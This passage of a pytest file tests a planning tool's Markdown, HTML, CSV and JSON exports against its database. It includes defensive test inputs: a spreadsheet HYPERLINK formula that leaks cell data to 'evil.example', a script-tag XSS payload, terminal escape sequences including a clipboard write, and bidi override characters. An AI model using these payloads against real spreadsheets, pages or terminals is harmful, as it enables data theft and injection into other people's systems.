"""Exports of a quarter (Markdown, HTML, CSV, JSON) and the report, checked against what
the file holds: expected values are read from it with SQL, not written down here."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import FixedClock
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.console import Console

from planboard.core import Place, Store
from planboard.core.export import (
    CSV_COLUMNS,
    FORMATS,
    JSON_SHAPE,
    export,
    export_path,
    print_report,
    report,
    write_export,
)
from planboard.core.history import coverage
from planboard.core.text import clean_line, clean_multiline

# C0 controls but newline, DEL, C1, and the bidi embeddings, overrides and isolates.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def no_control(text: str, *, crlf: bool = False) -> bool:
    if crlf:
        text = text.replace("\r\n", "\n")
    return not CONTROL.search(text)


@pytest.fixture
def sample(sample_copy: Path) -> Iterator[Store]:
    store = Store.open(sample_copy, readonly=True, create=False)
    yield store
    store.close()


def quarter_id(store: Store, name: str) -> int:
    return store.quarter_by_name(name).id


# ------------------------------------------------------------------ reading the outputs

MARKDOWN = MarkdownIt("commonmark")


def markdown_runs_of(token: Token) -> str:
    """The plain text of an inline token, markup resolved; anything that is not plain
    text (a link, an image, raw HTML, code) shows as <type>."""
    parts = []
    for child in token.children or []:
        if child.type == "text":
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        elif child.type not in ("em_open", "em_close", "strong_open", "strong_close"):
            parts.append(f"<{child.type}>")
    return "".join(parts)


def markdown_runs(markdown: str) -> list[str]:
    """The plain text of every inline run; code and raw HTML blocks as <type>."""
    runs = []
    for token in MARKDOWN.parse(markdown):
        if token.type == "inline":
            runs.append(markdown_runs_of(token))
        elif token.type in ("code_block", "fence", "html_block"):
            runs.append(f"<{token.type}>")
    return runs


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source"}


class StrictHTML(HTMLParser):
    """Checks that every non-void element is closed, in order, and collects the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.doctype = ""

    def handle_decl(self, decl: str) -> None:
        self.doctype = decl

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            self.errors.append(f"end tag for void <{tag}>")
        elif not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes <{self.stack[-1] if self.stack else None}>")
        else:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        if self.stack and self.stack[-1] in ("style", "title"):
            return
        self.text.append(data)


def parse_html(document: str) -> StrictHTML:
    parser = StrictHTML()
    parser.feed(document)
    parser.close()
    assert parser.errors == []
    assert parser.stack == [], f"left open: {parser.stack}"
    return parser


def squash(text: str) -> str:
    return " ".join(text.split())


def html_text(document: str) -> str:
    return squash("".join(parse_html(document).text))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# ------------------------------------------------------------------- what the file holds


def sql(store: Store, query: str, *args: object) -> list[tuple]:
    return list(store.conn.execute(query, args))


def expected_cut_off(store: Store, qid: int) -> dict[str, tuple[int, int]]:
    """name -> (items sent, decided quarters in a row cut off), straight from the tables."""

    def cut_in(quarter: int) -> dict[int, int]:
        rows = sql(
            store,
            "SELECT i.stakeholder_id, COUNT(*), SUM(b.chosen_rank IS NOT NULL) FROM items i "
            "LEFT JOIN blocks b ON b.id = i.block_id WHERE i.quarter_id = ? "
            "AND i.stakeholder_id IS NOT NULL GROUP BY 1",
            quarter,
        )
        return {sid: count for sid, count, served in rows if not served}

    (name,) = sql(store, "SELECT name FROM quarters WHERE id = ?", qid)[0]
    earlier = [
        r[0]
        for r in sql(
            store,
            "SELECT id FROM quarters WHERE status = 'decided' AND name < ? ORDER BY name DESC",
            name,
        )
    ]
    found = {}
    for sid, count in cut_in(qid).items():
        streak = 1
        for quarter in earlier:
            if sid not in cut_in(quarter):
                break
            streak += 1
        (person,) = sql(store, "SELECT name FROM stakeholders WHERE id = ?", sid)[0]
        found[person] = (count, streak)
    return found


# ------------------------------------------------------------------------ sample.db, Q2


def test_formats_and_default_paths(tmp_path: Path) -> None:
    assert FORMATS == ("md", "html", "csv", "json")
    board = tmp_path / "team.db"
    assert export_path(board, "2026-Q3", "md") == tmp_path / "team.2026-Q3.md"
    assert export_path(board, "2026-Q3", "html") == tmp_path / "team.2026-Q3.html"
    assert export_path(board, "2026-Q3", "csv") == tmp_path / "team.2026-Q3.csv"
    assert export_path(board, "2026-Q3", "json") == tmp_path / "team.2026-Q3.json"
    with pytest.raises(ValueError):
        export_path(board, "2026-Q3", "xml")


def test_unknown_format_is_refused(sample: Store) -> None:
    with pytest.raises(ValueError, match="md, html, csv, json"):
        export(sample, quarter_id(sample, "2026-Q2"), "pdf")


def test_decided_quarter_reads_as_a_newsletter(sample: Store) -> None:
    q = quarter_id(sample, "2026-Q2")
    blocks = "SELECT name FROM blocks WHERE quarter_id = ? AND chosen_rank "
    chosen = [r[0] for r in sql(sample, blocks + "IS NOT NULL ORDER BY chosen_rank", q)]
    not_chosen = [r[0] for r in sql(sample, blocks + "IS NULL ORDER BY position", q)]
    rationale, attendees = sql(
        sample, "SELECT rationale, attendees FROM decisions WHERE quarter_id = ?", q
    )[0]
    title, reason, owner = sql(
        sample,
        "SELECT i.title, i.drop_reason, COALESCE(s.name, 'Team') FROM items i "
        "LEFT JOIN stakeholders s ON s.id = i.stakeholder_id "
        "WHERE i.quarter_id = ? AND i.status = 'dropped' ORDER BY i.id LIMIT 1",
        q,
    )[0]
    chosen_items = sql(
        sample,
        "SELECT i.title, COALESCE(s.name, 'Team') FROM items i JOIN blocks b ON b.id = i.block_id "
        "LEFT JOIN stakeholders s ON s.id = i.stakeholder_id "
        "WHERE b.quarter_id = ? AND b.chosen_rank IS NOT NULL",
        q,
    )
    cut = expected_cut_off(sample, q)
    assert chosen and not_chosen and cut and any(s >= 2 for _, s in cut.values())

    markdown = export(sample, q, "md")
    page = export(sample, q, "html")
    runs = markdown_runs(markdown)
    md_text = squash(" ".join(runs))
    page_text = html_text(page)
    assert runs[0] == "What the data team does in 2026-Q2"
    assert "<title>What the data team does in 2026-Q2</title>" in page
    for text in (md_text, page_text):
        assert "What the data team does in 2026-Q2" in text
        assert "still being prepared" not in text
        positions = [text.index(name) for name in chosen]
        assert positions == sorted(positions), "chosen blocks in rank order"
        for rank, name in enumerate(chosen, start=1):
            assert f"{rank}. {name}" in text
        for name in not_chosen:
            assert name in text
        for item, whose in chosen_items:
            assert f"{squash(item)} — {whose}" in text
        assert squash(rationale) in text
        assert squash(attendees) in text
        assert f"{squash(title)} ({owner}): {squash(reason)}" in text
        for person, (count, streak) in cut.items():
            line = f"{person}: {count} item{'s' if count != 1 else ''}, none chosen"
            assert line in text
            after = text.split(line, 1)[1][:40]
            assert (f"{streak} quarters in a row" in after) == (streak >= 2), (person, after)
    # Sections in newsletter order.
    order = ["Our vision", "What we will do", "Why", "What we will not do", "What we dropped"]
    order.append("Who gets nothing")
    for text in (md_text, page_text):
        found = [text.index(heading) for heading in order]
        assert found == sorted(found)


def test_every_decided_quarter_lists_its_choices_in_rank_order(sample: Store) -> None:
    for (q,) in sql(sample, "SELECT id FROM quarters WHERE status = 'decided'"):
        chosen = [
            f"{rank}. {name}"
            for name, rank in sql(
                sample,
                "SELECT name, chosen_rank FROM blocks WHERE quarter_id = ? "
                "AND chosen_rank IS NOT NULL ORDER BY chosen_rank",
                q,
            )
        ]
        for text in (squash(" ".join(markdown_runs(export(sample, q, "md")))),):
            positions = [text.index(c) for c in chosen]
            assert positions == sorted(positions)
        page = html_text(export(sample, q, "html"))
        positions = [page.index(c) for c in chosen]
        assert positions == sorted(positions)


def test_a_quarter_being_prepared_says_so_and_shows_proposals(sample: Store) -> None:
    q = quarter_id(sample, "2026-Q3")
    assert sql(sample, "SELECT status FROM quarters WHERE id = ?", q)[0][0] == "preparing"
    query = "SELECT name FROM blocks WHERE quarter_id = ? ORDER BY position"
    blocks = [r[0] for r in sql(sample, query, q)]
    for text in (
        squash(" ".join(markdown_runs(export(sample, q, "md")))),
        html_text(export(sample, q, "html")),
    ):
        head = text[:200]
        assert "2026-Q3 is still being prepared: nothing is decided yet" in head
        assert "proposals" in text
        positions = [text.index(name) for name in blocks]
        assert positions == sorted(positions)
        assert "What we will do" not in text and "Who gets nothing" not in text
    data = json.loads(export(sample, q, "json"))
    assert data["decision"] is None and data["cut_off"] == []


def test_html_is_a_complete_self_contained_document(sample: Store) -> None:
    for (q,) in sql(sample, "SELECT id FROM quarters"):
        page = export(sample, q, "html")
        assert page.startswith("<!doctype html>\n")
        parser = parse_html(page)
        assert parser.doctype.lower() == "doctype html"
        tags = [t for t, _ in parser.tags]
        assert tags[:2] == ["html", "head"]
        assert ("lang", "en") in parser.tags[0][1]
        assert ("meta", [("charset", "utf-8")]) in parser.tags
        assert tags.count("title") == 1 and tags.count("style") == 1 and "body" in tags
        assert "script" not in tags and "link" not in tags and "img" not in tags
        for _tag, attrs in parser.tags:
            for name, value in attrs:
                assert not name.startswith("on"), name
                assert name not in ("src", "href"), name
                assert "javascript:" not in (value or "")
        assert "url(" not in page and "@import" not in page and "http" not in page
        assert no_control(page)


def test_json_matches_the_documented_shape_and_the_file(sample: Store) -> None:
    q = quarter_id(sample, "2026-Q2")
    data = json.loads(export(sample, q, "json"))
    assert data["format"] == "planboard-quarter" and data["version"] == 1
    top = {"quarter", "decision", "meeting", "present", "stakeholders", "blocks", "items"}
    assert top | {"cut_off", "format", "version"} == set(data)
    for key in top | {"cut_off"}:
        assert f"`{key}`" in JSON_SHAPE
    quarter = data["quarter"]
    assert set(quarter) == {"id", "name", "status", "vision", "created_at"}
    assert (quarter["id"], quarter["name"], quarter["status"]) == (q, "2026-Q2", "decided")
    assert set(data["decision"]) == {"decided_at", "rationale", "attendees"}
    assert all(isinstance(v, str) for v in data["decision"].values())
    meeting = data["meeting"]
    assert set(meeting) == {"started_at", "ended_at", "dot_budget", "tally_hidden"} | {
        "timebox_minutes"
    }
    assert isinstance(meeting["dot_budget"], int) and isinstance(meeting["tally_hidden"], bool)
    assert isinstance(meeting["timebox_minutes"], int)
    assert all(isinstance(name, str) for name in data["present"])
    present = [
        r[0]
        for r in sql(
            sample,
            "SELECT s.name FROM attendance a JOIN stakeholders s ON s.id = a.stakeholder_id "
            "WHERE a.quarter_id = ? ORDER BY s.name COLLATE NOCASE",
            q,
        )
    ]
    assert data["present"] == present
    for person in data["stakeholders"]:
        assert set(person) == {"id", "name", "department"}
        assert isinstance(person["id"], int) and isinstance(person["name"], str)
    block_keys = {"id", "name", "description", "effort", "position", "chosen_rank", "choice"}
    block_keys |= {"dots"}
    block_keys |= {"votes", "items"}
    for block in data["blocks"]:
        assert set(block) == block_keys
        assert isinstance(block["items"], list) and isinstance(block["votes"], dict)
        assert block["effort"] is None or isinstance(block["effort"], float)
        assert block["dots"] == sum(block["votes"].values())
    item_keys = {"id", "title", "notes", "effort", "owner", "stakeholder_id", "place"}
    item_keys |= {"block_id", "status", "drop_reason", "position", "merged_into", "carried_from"}
    for item in data["items"]:
        assert set(item) == item_keys
        assert item["place"] in ("list", "block", "dropped", "merged")
        assert isinstance(item["title"], str) and isinstance(item["owner"], str)
        assert (item["owner"] == "Team") == (item["stakeholder_id"] is None)
    for cut in data["cut_off"]:
        assert set(cut) == {"stakeholder", "stakeholder_id", "items", "streak"}

    # Counts, straight from the file.
    ((items,),) = sql(sample, "SELECT COUNT(*) FROM items WHERE quarter_id = ?", q)
    assert len(data["items"]) == items
    assert sorted(i["id"] for i in data["items"]) == [
        r[0] for r in sql(sample, "SELECT id FROM items WHERE quarter_id = ? ORDER BY id", q)
    ]
    blocks = sql(
        sample,
        "SELECT id, name, chosen_rank FROM blocks WHERE quarter_id = ? ORDER BY position",
        q,
    )
    assert [(b["id"], b["name"], b["chosen_rank"]) for b in data["blocks"]] == blocks
    for block in data["blocks"]:
        held = sql(
            sample, "SELECT id FROM items WHERE block_id = ? ORDER BY place_position", block["id"]
        )
        assert block["items"] == [r[0] for r in held]
        votes = dict(
            sql(
                sample,
                "SELECT s.name, v.dots FROM votes v JOIN stakeholders s ON s.id = v.stakeholder_id"
                " WHERE v.block_id = ?",
                block["id"],
            )
        )
        assert block["votes"] == votes
    ((dropped,),) = sql(
        sample, "SELECT COUNT(*) FROM items WHERE quarter_id = ? AND status = 'dropped'", q
    )
    assert sum(i["place"] == "dropped" for i in data["items"]) == dropped
    by_id = {i["id"]: i for i in data["items"]}
    for item_id, reason in sql(
        sample, "SELECT id, drop_reason FROM items WHERE quarter_id = ? AND status = 'dropped'", q
    ):
        assert by_id[item_id]["drop_reason"] == reason
    cut = expected_cut_off(sample, q)
    assert {c["stakeholder"]: (c["items"], c["streak"]) for c in data["cut_off"]} == cut


def test_csv_has_one_row_per_item(sample: Store) -> None:
    for (q,) in sql(sample, "SELECT id FROM quarters"):
        text = export(sample, q, "csv")
        assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
        rows = csv_rows(text)
        ((count,),) = sql(sample, "SELECT COUNT(*) FROM items WHERE quarter_id = ?", q)
        assert len(rows) == count
        assert len({r["item_id"] for r in rows}) == count
        for row in rows:
            (title, block, status) = sql(
                sample,
                "SELECT i.title, b.name, i.status FROM items i "
                "LEFT JOIN blocks b ON b.id = i.block_id WHERE i.id = ?",
                int(row["item_id"]),
            )[0]
            assert row["title"] == title and row["status"] == status
            if row["place"] == "block":
                assert row["block"] == block
        assert no_control(text, crlf=True)


def test_merged_requests_are_exported_with_where_they_went(sample_copy: Path) -> None:
    with Store.open(sample_copy, clock=FixedClock()) as store:
        q = quarter_id(store, "2026-Q3")
        survivor, other = (
            r[0]
            for r in sql(
                store,
                "SELECT id FROM items WHERE quarter_id = ? AND status = 'open' "
                "AND block_id IS NULL ORDER BY id LIMIT 2",
                q,
            )
        )
        store.merge_items(survivor, [other])
        rows = {int(r["item_id"]): r for r in csv_rows(export(store, q, "csv"))}
        ((count,),) = sql(store, "SELECT COUNT(*) FROM items WHERE quarter_id = ?", q)
        assert len(rows) == count
        assert rows[other]["place"] == "merged"
        assert rows[other]["merged_into"] == str(survivor)
        assert rows[survivor]["place"] == "list" and rows[survivor]["merged_into"] == ""
        items = {i["id"]: i for i in json.loads(export(store, q, "json"))["items"]}
        assert items[other]["place"] == "merged" and items[other]["merged_into"] == survivor
        assert len(items) == count


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_neutralises_formulas(sample_copy: Path, start: str) -> None:
    with Store.open(sample_copy, clock=FixedClock()) as store:
        q = quarter_id(store, "2026-Q3")
        item = sql(store, "SELECT id FROM items WHERE quarter_id = ? ORDER BY id LIMIT 1", q)[0][0]
        title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
        store.edit_item(item, title=title, notes=f"{start}1+1")
        rows = {int(r["item_id"]): r for r in csv_rows(export(store, q, "csv"))}
        assert rows[item]["title"] == "'" + title
        assert rows[item]["notes"] == f"'{start}1+1"
        # Only the CSV guards against spreadsheets: JSON holds the title as it is.
        items = {i["id"]: i for i in json.loads(export(store, q, "json"))["items"]}
        assert items[item]["title"] == title


def test_csv_keeps_a_negative_number_a_number(sample_copy: Path) -> None:
    """An effort of -5 (another program's) came out as the text `'-5` in the CSV: a
    number is never a formula, and a spreadsheet reads it as the number it is."""
    with Store.open(sample_copy, clock=FixedClock()) as store:
        q = quarter_id(store, "2026-Q3")
        item = sql(store, "SELECT id FROM items WHERE quarter_id = ? ORDER BY id LIMIT 1", q)[0][0]
        store.conn.execute("UPDATE items SET effort = -5 WHERE id = ?", (item,))
        rows = {int(r["item_id"]): r for r in csv_rows(export(store, q, "csv"))}
        assert rows[item]["effort"] == "-5"


# ------------------------------------------------------------------------- hostile text

HOSTILE = (
    "[bold red]x[/] [@click=app.quit]q[/] <script>alert('x')</script> &amp; & \"quoted\" "
    "*em* _u_ `code` # [link](http://evil.example) ![img](x.png) | pipe ~~s~~ \\ "
    "\x1b[2J\x1b]52;c;aGk=\x07 \x9b31m \u202eevil\u202c \x00nul\x7f\r\nnext\tline"
)
HOSTILE_LEADING = "1. - # = + @ starts like markup"
# Lines that Markdown would read as a list, a heading, a rule, a quote, code, a table.
HOSTILE_LINES = "1. one\n- two\n# three\n===\n> four\n    five\n| a | b |\n***"


def hostile_board(path: Path) -> tuple[Store, int, dict[str, int]]:
    """A decided quarter whose every text is hostile, written behind the store's back."""
    store = Store.open(path, clock=FixedClock(), first_quarter="2026-Q3")
    q = store.default_quarter().id
    store.add_stakeholder("Owner", "Dept", quarter_id=q)
    store.add_stakeholder("Other", quarter_id=q)
    people = {s.name: s.id for s in store.stakeholders()}
    mine = store.add_item(q, people["Owner"], "Mine", notes="notes").item_id or 0
    theirs = store.add_item(q, people["Other"], "Theirs").item_id or 0
    gone = store.add_item(q, None, "Gone").item_id or 0
    chosen = store.add_block(q, "Chosen", "Case", item_ids=[mine]).block_id or 0
    store.add_block(q, "Not chosen", item_ids=[theirs])
    store.drop_item(gone, "Why not")
    store.choose_block(chosen, 1)
    store.decide(q, "Rationale", "Attendees")
    raw = sqlite3.connect(path)
    with raw:
        raw.execute("UPDATE quarters SET vision = ?", (HOSTILE_LINES,))
        raw.execute("UPDATE blocks SET name = ?, description = ?", (HOSTILE, HOSTILE))
        raw.execute("UPDATE items SET title = ?, notes = ?", (HOSTILE, HOSTILE))
        raw.execute(
            "UPDATE items SET title = ?, drop_reason = ? WHERE id = ?",
            (HOSTILE_LEADING, HOSTILE, gone),
        )
        for name, person in people.items():
            raw.execute(
                "UPDATE stakeholders SET name = ?, department = ? WHERE id = ?",
                (name + HOSTILE, HOSTILE, person),
            )
        raw.execute("UPDATE decisions SET rationale = ?, attendees = ?", (HOSTILE, HOSTILE))
    raw.close()
    return store, q, {"mine": mine, "theirs": theirs, "gone": gone}


def test_hostile_text_shows_literally_in_every_format(tmp_path: Path) -> None:
    store, q, ids = hostile_board(tmp_path / "hostile.db")
    try:
        line = clean_line(HOSTILE)
        many = squash(clean_multiline(HOSTILE))
        owner = clean_line("Owner" + HOSTILE)
        assert line and "\x1b" not in line

        markdown = export(store, q, "md")
        assert no_control(markdown)
        runs = markdown_runs(markdown)
        markup = re.compile(
            r"<(link_open|image|html_inline|html_block|code_inline|code_block|fence)>"
        )
        assert not [run for run in runs if markup.search(run)], "read as markup"
        md_text = squash(" ".join(runs))
        assert f"1. {line}" in md_text  # the chosen block's heading
        assert f"{line} — {owner}" in md_text  # an item and whose it is
        assert many in md_text  # the case, the rationale
        assert f"{HOSTILE_LEADING} (Team): {line}" in md_text  # dropped, with its reason
        vision = [line.strip() for line in HOSTILE_LINES.split("\n")]
        assert "\n".join(vision) in runs  # one paragraph, each line as typed
        tokens = MARKDOWN.parse(markdown)
        kinds = {t.type for t in tokens}
        assert not kinds & {"ordered_list_open", "blockquote_open", "hr", "code_block", "fence"}
        headings = [
            markdown_runs_of(tokens[i + 1])
            for i, t in enumerate(tokens)
            if t.type == "heading_open"
        ]
        assert headings == [
            "What the data team does in 2026-Q3",
            "Our vision",
            "What we will do",
            f"1. {line}",
            "Why",
            "What we will not do this quarter",
            "What we dropped, and why",
            "Who gets nothing this quarter",
        ]

        page = export(store, q, "html")
        assert no_control(page)
        assert "<script" not in page and "&lt;script&gt;" in page
        parser = parse_html(page)
        assert "script" not in [t for t, _ in parser.tags]
        page_text = html_text(page)
        assert f"1. {line}" in page_text
        assert f"{line} — {owner}" in page_text
        assert many in page_text
        for typed in vision:
            assert typed in page_text
        assert f"{HOSTILE_LEADING} (Team): {line}" in page_text

        text = export(store, q, "csv")
        assert no_control(text, crlf=True)
        rows = {int(r["item_id"]): r for r in csv_rows(text)}
        assert rows[ids["mine"]]["title"] == line
        assert rows[ids["mine"]]["owner"] == owner
        assert rows[ids["mine"]]["block"] == line
        assert rows[ids["mine"]]["notes"] == clean_multiline(HOSTILE)
        assert rows[ids["gone"]]["title"] == HOSTILE_LEADING
        assert rows[ids["gone"]]["drop_reason"] == line

        raw = export(store, q, "json")
        assert no_control(raw)
        data = json.loads(raw)
        items = {i["id"]: i for i in data["items"]}
        assert items[ids["mine"]]["title"] == line
        assert items[ids["mine"]]["notes"] == clean_multiline(HOSTILE)
        assert items[ids["mine"]]["owner"] == owner
        assert data["blocks"][0]["name"] == line
        assert data["decision"]["rationale"] == clean_multiline(HOSTILE)
        assert no_control(json.dumps(data, ensure_ascii=False))

        console = Console(file=io.StringIO(), width=100, force_terminal=False, no_color=True)
        print_report(store, console)
        shown = console.file.getvalue()  # type: ignore[attr-defined]
        assert no_control(shown)
        assert "[bold red]x[/]" in shown  # markup shows literally, it is not applied
    finally:
        store.close()


# ------------------------------------------------------------------ coverage and report


@pytest.fixture
def three_quarters(tmp_path: Path) -> Iterator[tuple[Store, dict[str, int], dict[str, int]]]:
    """2026-Q1 and 2026-Q2 decided, 2026-Q3 being prepared; three stakeholders.

    |      | Q1       | Q2       | Q3 (preparing) |
    | Ann  | served   | served   | no list        |
    | Bob  | cut      | cut      | open           |
    | Cleo | no list  | served   | no list        |
    """
    store = Store.open(tmp_path / "cover.db", clock=FixedClock(), first_quarter="2026-Q1")
    q1 = store.default_quarter().id
    for name, dept in (("Ann", "Sales"), ("Bob", "Ops"), ("Cleo", "")):
        store.add_stakeholder(name, dept, quarter_id=q1)
    people = {s.name: s.id for s in store.stakeholders()}

    def add(q: int, who: str, title: str) -> int:
        return store.add_item(q, people[who], title).item_id or 0

    chosen = store.add_block(q1, "Q1 pick", item_ids=[add(q1, "Ann", "a1")]).block_id or 0
    store.add_block(q1, "Q1 other", item_ids=[add(q1, "Bob", "b1")])
    add(q1, "Bob", "b1 again")
    store.choose_block(chosen, 1)
    store.decide(q1, "Ann first")

    store.create_quarter("2026-Q2")
    q2 = store.quarter_by_name("2026-Q2").id
    first = store.add_block(q2, "Q2 pick", item_ids=[add(q2, "Ann", "a2")]).block_id or 0
    second = store.add_block(q2, "Q2 second", item_ids=[add(q2, "Cleo", "c2")]).block_id or 0
    bob = add(q2, "Bob", "b2")
    store.drop_item(bob, "Too small")
    store.choose_block(first, 1)
    store.choose_block(second, 2)
    store.decide(q2, "Ann and Cleo")

    store.create_quarter("2026-Q3")
    q3 = store.quarter_by_name("2026-Q3").id
    add(q3, "Bob", "b3")
    yield store, {"Q1": q1, "Q2": q2, "Q3": q3}, people
    store.close()


def test_coverage_matches_a_count_by_hand(three_quarters) -> None:  # type: ignore
    store, quarters, people = three_quarters
    cover = coverage(store)
    assert [q.name for q in cover.quarters] == ["2026-Q1", "2026-Q2", "2026-Q3"]
    by_hand = {
        "Ann": ["served", "served", "none"],
        "Bob": ["cut", "cut", "open"],
        "Cleo": ["none", "served", "none"],
    }
    for name, cells in by_hand.items():
        got = [cover.cell(people[name], quarters[q]) for q in ("Q1", "Q2", "Q3")]
        assert got == cells, name
        counts = {kind: cells.count(kind) for kind in ("served", "cut", "none", "open")}
        assert cover.counts(people[name]) == counts
    assert cover.streak(people["Ann"]) == 0
    assert cover.streak(people["Bob"]) == 2
    assert cover.streak(people["Cleo"]) == 0
    assert [(s.name, n) for s, n in cover.warnings] == [("Bob", 2)]
    assert cover.items[(people["Bob"], quarters["Q1"])] == 2

    # The Q2 exports say the same: Bob cut off two quarters in a row, Ann and Cleo served.
    data = json.loads(export(store, quarters["Q2"], "json"))
    assert data["cut_off"] == [
        {"stakeholder": "Bob", "stakeholder_id": people["Bob"], "items": 1, "streak": 2}
    ]
    text = squash(" ".join(markdown_runs(export(store, quarters["Q2"], "md"))))
    assert "Bob: 1 item, none chosen; cut off 2 quarters in a row" in text
    assert "Too small" in text
    q1 = squash(" ".join(markdown_runs(export(store, quarters["Q1"], "md"))))
    assert "Bob: 2 items, none chosen" in q1 and "in a row" not in q1


def test_coverage_of_a_quarter_another_program_made_live_again(three_quarters) -> None:  # type: ignore
    """`UPDATE quarters SET status = 'live'` on a decided quarter: its blocks still held
    their confirmed ranks, so the coverage showed ■ (served) for a quarter not decided,
    beside ○ for the others. A quarter not decided is open for everyone in it."""
    store, quarters, people = three_quarters
    store.conn.execute("UPDATE quarters SET status = 'live' WHERE id = ?", (quarters["Q1"],))
    cover = coverage(store)
    assert cover.cell(people["Ann"], quarters["Q1"]) == "open"
    assert cover.cell(people["Bob"], quarters["Q1"]) == "open"
    assert cover.streak(people["Bob"]) == 1


def test_report_shows_every_quarter_and_the_coverage(three_quarters) -> None:  # type: ignore
    store, _quarters, _people = three_quarters
    console = Console(file=io.StringIO(), width=100, force_terminal=False, no_color=True)
    console.print(report(store))
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b" not in text
    for name in ("2026-Q1", "2026-Q2", "2026-Q3", "Ann first", "Ann and Cleo", "1. Q1 pick"):
        assert name in text
    assert "2. Q2 second" in text and "preparing" in text
    rows = {line.split("│")[1].strip(): line for line in text.splitlines() if line.count("│") > 4}
    cells = {name: [c.strip() for c in line.split("│")[2:-1]] for name, line in rows.items()}
    assert cells["Ann · Sales"] == ["■", "■", "·", "2", "0", "1", "0"]
    assert cells["Bob · Ops"] == ["✗", "✗", "○", "0", "2", "0", "1"]
    assert cells["Cleo"] == ["·", "■", "·", "1", "0", "2", "0"]
    assert "⚠ Bob has been cut off 2 decided quarters in a row." in text
    assert "Ann has been" not in text


def test_report_on_sample_warns_about_long_cut_off_runs(sample: Store) -> None:
    console = Console(file=io.StringIO(), width=100, force_terminal=False, no_color=True)
    print_report(sample, console)
    text = console.file.getvalue()  # type: ignore[attr-defined]
    for s, streak in coverage(sample).warnings:
        assert f"{s.name} has been cut off {streak} decided quarters in a row." in text
    for (name,) in sql(sample, "SELECT name FROM quarters"):
        assert name in text
    assert all(len(line) <= 100 for line in text.splitlines())


# ---------------------------------------------------------------------------- writing


def test_write_export_beside_the_board(sample_copy: Path) -> None:
    with Store.open(sample_copy, readonly=True, create=False) as store:
        q = quarter_id(store, "2026-Q2")
        for fmt in FORMATS:
            path = write_export(store, q, fmt)
            assert path == sample_copy.with_name(f"sample-copy.2026-Q2.{fmt}")
            assert path.read_bytes().decode("utf-8") == export(store, q, fmt)
            assert path.stat().st_mode & 0o077, "an export is readable like any new file"
    leftovers = [p.name for p in sample_copy.parent.iterdir() if p.name.startswith(".")]
    assert leftovers == []


def test_write_export_failing_leaves_nothing(sample_copy: Path, tmp_path: Path) -> None:
    with Store.open(sample_copy, readonly=True, create=False) as store:
        q = quarter_id(store, "2026-Q2")
        with pytest.raises(OSError):
            write_export(store, q, "md", tmp_path / "missing" / "out.md")
        folder = tmp_path / "a-folder.md"
        folder.mkdir()
        with pytest.raises(OSError):
            write_export(store, q, "md", folder)
        assert folder.is_dir() and list(folder.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-folder.md", "sample-copy.db"]


def test_a_live_quarter_shows_choices_so_far(filled) -> None:  # type: ignore
    store, q = filled.store, filled.quarter_id
    store.move_item(filled.sales_items[0], Place.block(filled.block_a))
    store.start_meeting(q, backup=False)
    store.set_meeting(q, present=[filled.sales])
    store.choose_block(filled.block_a, 1)
    for text in (
        squash(" ".join(markdown_runs(export(store, q, "md")))),
        html_text(export(store, q, "html")),
    ):
        assert "2026-Q3 is still being prepared: nothing is decided yet" in text
        assert "the planning event is under way" in text
        assert "Sales cockpit (choice 1 so far)" in text
        assert "Present so far: Head of Sales" in text
        assert "Who gets nothing" not in text
    data = json.loads(export(store, q, "json"))
    assert data["quarter"]["status"] == "live" and data["meeting"]["ended_at"] is None
    assert data["present"] == ["Head of Sales"] and data["cut_off"] == []


def test_a_merged_request_is_in_the_markdown_and_html_under_its_item(sample_copy: Path) -> None:
    """A stakeholder's request merged into another list's item was in the CSV and JSON
    only: the Markdown and HTML (and the minutes) named them among who asked, but their
    own words were nowhere, so they could not find their request. It is listed under
    the item it was merged into, with whose it was."""
    from planboard.core import Place
    from planboard.core.outcome import minutes_markdown, outcome

    with Store.open(sample_copy, clock=FixedClock()) as store:
        q = quarter_id(store, "2026-Q3")
        board = store.board(q)
        block = board.blocks[0]
        survivor = board.items_at(Place.block(block.id))[0]
        people = {s.id: s for s in store.stakeholders()}
        other = next(
            item
            for place, items in board.places.items()
            if place.is_list and place.ref is not None
            for item in items
            if item.stakeholder_id != survivor.stakeholder_id
        )
        store.edit_item(other.id, title="Deduplicate customer accounts <in> *Salesforce*")
        store.merge_items(survivor.id, [other.id])
        who = people[other.stakeholder_id].name
        text = export(store, q, "md")
        line = next(n for n, row in enumerate(text.splitlines()) if survivor.title in row)
        below = text.splitlines()[line + 1]
        assert below.startswith("  - also asked as") and "Deduplicate customer accounts" in below
        assert "\\<in\\>" in below and "\\*Salesforce\\*" in below and who in below, below
        page = export(store, q, "html")
        assert "also asked as" in page and "&lt;in&gt; *Salesforce*" in page and who in page
        store.choose_block(block.id, 1)
        store.decide(q, "Sales first.", "Ana")
        minutes = minutes_markdown(outcome(store, q))
        assert "  - also asked as Deduplicate customer accounts \\<in\\>" in minutes, minutes


def test_the_newsletters_keep_a_hidden_tally_hidden(sample_copy: Path) -> None:
    """`export --format md` (or html) of a quarter whose event is live with the tally
    hidden printed each proposal's dots ("… · 12 dots"): on a shared screen, the count
    the hidden tally keeps from the room. The newsletters leave the dots out until the
